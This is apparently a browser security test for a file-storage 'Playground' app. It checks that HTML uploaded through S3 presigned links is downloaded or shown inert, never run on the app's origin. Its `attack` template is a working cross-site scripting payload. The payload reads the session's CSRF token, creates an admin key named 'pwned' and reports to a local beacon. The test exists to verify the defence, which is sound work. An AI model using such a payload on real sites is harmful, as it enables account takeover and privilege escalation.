/**
 * Untrusted bytes never run on the Playground's origin (issue 23, finding 1), in a real browser:
 * a key confined to one folder uploads an HTML page through S3 whose script, run as the
 * Playground, would read /session and make an admin key. A signed-in Playground user opens its
 * presigned link: on the origin there is no S3 (404); on the S3 port the page is downloaded,
 * never run, and a `response-content-type` of text/html on a text object is downloaded too.
 * A passive type still shows inline. The script reports to a listener of the test's whenever it
 * runs at all.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { randomBytes } from 'node:crypto';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CreateBucketCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import { startPlayground, type Playground } from './harness.js';
import { folderAt, makeKey, s3Client, type S3Key } from '../helpers/s3-api.js';
import { presign } from '../helpers/s3-presign.js';

let pg: Playground;
let beacon: Server;
let beaconUrl: string;
const reports: string[] = [];
let confined: S3Key;
const bucket = `team-${randomBytes(3).toString('hex')}`;

/** What the attacker's page does when it runs: report, read the session's CSRF token, make an admin key. */
const attack = (origin: string) => `<!doctype html><title>invoice</title><p>invoice</p><script>
(async () => {
  const report = (what) => fetch(${JSON.stringify(beaconUrl)} + '/' + what, { mode: 'no-cors' }).catch(() => {});
  await report('ran');
  try {
    const session = await (await fetch(${JSON.stringify(origin)} + '/session', { credentials: 'include' })).json();
    const made = await fetch(${JSON.stringify(origin)} + '/collections/keys/create', {
      method: 'POST', credentials: 'include',
      headers: { 'content-type': 'application/json', 'x-csrf-token': session.csrf_token },
      body: JSON.stringify({ name: 'pwned', scopes: ['admin', 'read', 'write'] }),
    });
    await report('made-' + made.status);
  } catch { await report('blocked'); }
})();
</script>`;

beforeAll(async () => {
  beacon = createServer((req, res) => {
    reports.push(req.url ?? '');
    res.end();
  });
  await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve));
  beaconUrl = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`;
  pg = await startPlayground();
  const admin = s3Client(pg.origin.origin.s3Url, await makeKey(pg.origin, ['read', 'write'])).client;
  await admin.send(new CreateBucketCommand({ Bucket: bucket }));
  await admin.send(new PutObjectCommand({ Bucket: bucket, Key: 'box/keep.txt', Body: 'x' }));
  admin.destroy();
  confined = await makeKey(pg.origin, ['read', 'write'], await folderAt(pg.origin, `${bucket}/box`));
  const s3 = s3Client(pg.origin.origin.s3Url, confined).client;
  await s3.send(new PutObjectCommand({ Bucket: bucket, Key: 'box/invoice.html', Body: attack(pg.url), ContentType: 'text/html' }));
  await s3.send(new PutObjectCommand({ Bucket: bucket, Key: 'box/notes.txt', Body: attack(pg.url), ContentType: 'text/plain' }));
  s3.destroy();
}, 60_000);

afterAll(async () => {
  await pg?.close();
  await new Promise((resolve) => beacon?.close(resolve));
});

/** Gives a script that did run the time to report and to make its key. */
const settle = () => new Promise((resolve) => setTimeout(resolve, 1500));

async function nothingRan(): Promise<void> {
  await settle();
  expect(reports).toEqual([]);
  const keys = await pg.api.listKeys();
  expect(keys.keys.map((k) => k.name)).not.toContain('pwned');
}

/** Opens a link from the signed-in Playground; the file it downloads, or null when it showed a page. */
async function open(page: Page, url: string): Promise<{ status: number | null; download: string | null }> {
  const download = page.waitForEvent('download', { timeout: 5000 }).then((d) => d.suggestedFilename()).catch(() => null);
  const response = await page.goto(url).catch(() => null);
  return { status: response?.status() ?? null, download: response ? null : await download };
}

describe('a presigned link to user bytes, opened by a signed-in Playground user', () => {
  it('on the Playground\'s origin, answers 404: no S3 there, nothing of the page runs', { timeout: 60_000 }, async () => {
    const { page } = await pg.signedInPage();
    const link = presign(pg.url, confined, 'GET', `/s3/${bucket}/box/invoice.html`);
    const opened = await open(page, link);
    const content = await page.content();
    await nothingRan();
    expect(opened).toEqual({ status: 404, download: null });
    expect(content).not.toContain('invoice</p>');
  });

  it('on the S3 port, an HTML object is downloaded, never run; text asked for as text/html likewise; plain text shows inline, inert', { timeout: 60_000 }, async () => {
    const { page } = await pg.signedInPage();
    const s3Url = pg.origin.origin.s3Url;
    expect(await open(page, presign(s3Url, confined, 'GET', `/${bucket}/box/invoice.html`))).toEqual({ status: null, download: 'invoice.html' });
    const asHtml = presign(s3Url, confined, 'GET', `/${bucket}/box/notes.txt`, { 'response-content-type': 'text/html', 'response-content-disposition': 'inline' });
    expect(await open(page, asHtml)).toEqual({ status: null, download: 'notes.txt' });
    const plain = await open(page, presign(s3Url, confined, 'GET', `/${bucket}/box/notes.txt`));
    expect(plain).toEqual({ status: 200, download: null });
    expect(await page.locator('body').innerText()).toContain('<script>');
    await nothingRan();
  });
});
